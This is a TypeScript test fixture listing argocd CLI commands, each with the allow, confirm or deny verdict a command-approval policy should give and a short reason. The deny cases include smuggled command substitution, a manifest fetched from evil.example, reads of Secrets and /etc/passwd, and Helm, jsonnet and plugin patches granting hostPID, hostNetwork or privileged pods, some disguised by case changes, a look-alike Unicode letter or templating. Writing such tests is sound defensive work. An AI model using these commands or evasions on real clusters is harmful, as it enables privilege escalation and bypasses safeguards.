import type { Attack } from "./attack.ts";

export const argocd: readonly Attack[] = [
  {
    command: "argocd app diff web --local=manifests",
    expect: "deny",
    why: "a read that renders files of this machine",
  },
  { command: "argocd app logs web --tail 5 -f=true", expect: "deny", why: "follows, by a letter with a value" },
  {
    command: "argocd app sync web --prune --prune=false --force",
    expect: "confirm",
    why: "one is taken back, the other is not",
  },
  { command: "argocd app wait web --timeout -1", expect: "deny", why: "a negative time waits for ever" },
  {
    command: "argocd app sync web --resource 'apps:Deployment:$(id)'",
    expect: "deny",
    why: "the last part has to be a name",
  },
  { command: "argocd app get-resource web --kind Secret", expect: "deny", why: "a Secret through the application" },
  { command: "argocd app list -H 'Authorization: Bearer x'", expect: "deny", why: "identity by a header" },
  {
    command: "argocd app list --port-forward-namespace argocd",
    expect: "deny",
    why: "another endpoint without naming one",
  },
  {
    command: "argocd proj role create-token prod ci --token-only",
    expect: "deny",
    why: "a change below a list of reads that prints a credential",
  },
  {
    command: "argocd app create web -f https://evil.example/app.yaml",
    expect: "deny",
    why: "a file that is an address",
  },
  { command: "argocd app delete web -h=false", expect: "deny", why: "no help is asked for" },
  { command: "argocd app get web -- --server=x", expect: "deny", why: "behind `--` it is a name, and none" },
  {
    command:
      'argocd app patch web --type merge --patch \'{"spec":{"source":{"helm":{"parameters":[{"name":"securityContext.privileged","value":"true"}]}}}}\'',
    expect: "deny",
    why: "a parameter's name and value stand apart, and become a value of the chart",
  },
  {
    command:
      'argocd app patch web --patch \'[{"op":"add","path":"/spec/source/helm/parameters/-","value":{"name":"extra[0].kind","value":"ClusterRole"}}]\'',
    expect: "deny",
    why: "the same as one operation on a list",
  },
  {
    command:
      'argocd app patch web --type merge --patch \'{"spec":{"source":{"helm":{"parameters":[{"name":"hostNetwork","value":"false"}]}}}}\'',
    expect: "confirm",
    why: "a parameter that switches off grants nothing, and an Application is still changed",
  },
  {
    command: "argocd app set web --helm-set-file hostNetwork=files/x",
    expect: "deny",
    why: "whatever the file holds, the key has a value",
  },
  {
    command: "argocd app set web --kustomize-common-label pod-security.kubernetes.io/enforce=privileged",
    expect: "deny",
    why: "kustomize puts it on every object, namespaces among them",
  },
  {
    command:
      "argocd app set web --kustomize-common-annotation container.apparmor.security.beta.kubernetes.io/web=unconfined",
    expect: "deny",
    why: "and on every pod",
  },
  {
    command: "argocd app set web --jsonnet-tla-code 'spec={hostNetwork: true}'",
    expect: "deny",
    why: "an argument of jsonnet is content as well",
  },
  {
    command: "argocd app set web --plugin-env 'EXTRA=kind: ClusterRoleBinding'",
    expect: "deny",
    why: "so is what a plugin is given",
  },
  {
    command:
      'argocd app patch web --patch \'{"spec":{"source":{"directory":{"jsonnet":{"tlas":[{"name":"hostNetwork","value":"true"}]}}}}}\'',
    expect: "deny",
    why: "names and values stand apart in other lists, too",
  },
  {
    command:
      'argocd app patch web --patch \'[{"op":"replace","path":"/spec/source/helm/parameters/0/name","value":"hostPID"}]\'',
    expect: "deny",
    why: "the value that stands there already goes to another key",
  },
  {
    command: 'argocd app patch web --patch \'{"metadata":{"finalizers":null}}\'',
    expect: "deny",
    why: "without its finalizers an application leaves behind what it deploys",
  },
  {
    command: "argocd app create -f -",
    stdin:
      "kind: Application\nspec:\n  ignoreDifferences:\n  - {kind: MutatingWebhookConfiguration, jsonPointers: [/webhooks]}\n",
    expect: "confirm",
    why: "what is not compared is not deployed",
  },
  {
    command:
      'argocd app patch web --patch \'[{"op":"add","path":"/spec/ignoreDifferences/-","value":{"hostPID":true}},{"op":"copy","from":"/spec/ignoreDifferences/0","path":"/spec/source/helm/valuesObject"}]\'',
    expect: "deny",
    why: "from where nothing is deployed it is copied to where it is",
  },
  {
    command:
      "argocd app set web --jsonnet-tla-code 'cfg={a: {b: 1}}' --plugin-env LOG=debug --kustomize-common-label team=shop",
    expect: "confirm",
    why: "ordinary arguments",
  },
  {
    command: "argocd app create -f -",
    stdin:
      "kind: ApplicationSet\nspec:\n  templatePatch: |\n    spec: {source: {helm: {parameters: [{name: hostPID, value: 'true'}]}}}\n",
    expect: "deny",
    why: "a text that becomes part of every application of a set",
  },
  {
    command: "argocd app create -f -",
    stdin: "spec: {source: {helm: {parameters: [{name: '{{p}}', value: 'true'}]}}}\n",
    expect: "deny",
    why: "a generator says which value is set",
  },
  {
    command: "argocd app create -f -",
    stdin: "spec: {source: {helm: {parameters: [{name: image.tag, value: '{{.tag}}'}]}}}\n",
    expect: "confirm",
    why: "a generator says what an ordinary one is set to",
  },
  {
    command: "argocd app create -f -",
    stdin: "spec: {source: {helm: {Parameters: [{Name: hostPID, VALUE: 'true'}]}}}\n",
    expect: "deny",
    why: "Go takes the names of fields in any case",
  },
  {
    command: `argocd app patch web --type merge --patch '{"spec":{"source":{"helm":{"parameter\u017F":[{"name":"hostPID","value":"true"}]}}}}'`,
    expect: "deny",
    why: "and a long s for an s",
  },
  {
    command: "argocd app create -f -",
    stdin:
      "kind: ApplicationSet\nspec:\n  templatePatch: |\n    {{- if .x }}\n    spec: {source: {helm: {parameters: [{name: hostPID, value: 'true'}]}}}\n    {{- end }}\n",
    expect: "deny",
    why: "lines that only say what is left out make no other text of it",
  },
  {
    command: "argocd app create -f -",
    stdin: `spec: {source: {kustomize: {patches: [{patch: "- op: add\\n  path:\\t/spec/template/spec/hostPID\\n  value: true\\n"}]}}}\n`,
    expect: "deny",
    why: "a tab does not hide what an operation is at",
  },
  {
    command: "argocd app create -f -",
    stdin: "spec: {source: {plugin: {env: [{name: hostPID, value: 'true'}]}}}\n",
    expect: "deny",
    why: "a manifest gives a plugin what a flag gives it",
  },
  {
    command: "argocd app create -f -",
    stdin: "spec: {source: {plugin: {env: [{name: LOG, value: debug}], parameters: [{name: p, string: q}]}}}\n",
    expect: "confirm",
    why: "an ordinary plugin",
  },
  {
    command: "argocd app create -f -",
    stdin:
      "spec:\n  generators: [{list: {elements: [{a: hostPID}]}}]\n  template: {spec: {source: {helm: {values: '{{.a}}: true'}}}}\n",
    expect: "deny",
    why: "an element of a generator is a key of the values",
  },
  {
    command: "argocd app create -f -",
    stdin:
      "spec:\n  generators: [{list: {elements: [{a: host, b: 'PID: true'}]}}]\n  template: {spec: {source: {helm: {values: '{{.a}}{{.b}}'}}}}\n",
    expect: "deny",
    why: "two elements are, one behind the other",
  },
  {
    command: "argocd app create -f -",
    stdin:
      "spec:\n  generators: [{list: {elements: [{a: web}]}}]\n  template:\n    spec:\n      source:\n        helm:\n          values: |\n            host: '{{.a}}.{{.domain}}'\n            {{- if .b }}\n            image: {{ .registry }}/web:{{ .tag }}\n            {{- end }}\n",
    expect: "confirm",
    why: "elements that are values",
  },
  {
    command: "argocd app list --cluster https://10.0.0.1:6443 --repo https://github.com/o/r",
    expect: "allow",
    why: "filters that look like addresses",
  },
  { command: "argocd repo get git@github.com:o/r.git", expect: "allow", why: "the address is the record's name" },
  { command: "argocd account can-i delete clusters '*'", expect: "allow", why: "it only asks" },
  { command: "argocd app sync web --prune=false --dry-run", expect: "allow", why: "a flag set to its default" },
  { command: "argocd app get team-a/web --hard-refresh", expect: "allow", why: "namespace and name of the record" },
  {
    command: "argocd app logs delete --tail 5 --follow=false",
    expect: "allow",
    why: "an application with the name of a command",
  },
  {
    command: "argocd app get web -o go-template-file=/etc/passwd",
    expect: "deny",
    why: "kubectl's output formats are none of argocd's",
  },
];
